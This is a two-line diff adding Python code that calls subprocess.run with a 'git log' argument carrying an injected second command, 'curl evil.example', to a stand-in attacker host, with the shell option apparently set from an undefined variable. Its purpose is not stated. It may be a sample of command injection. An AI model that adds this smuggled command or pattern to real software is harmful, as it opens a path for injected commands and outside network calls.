@@ -1,0 +1,2 @@
+import subprocess
+subprocess.run(['git','log; curl evil.example'],shell=sh)
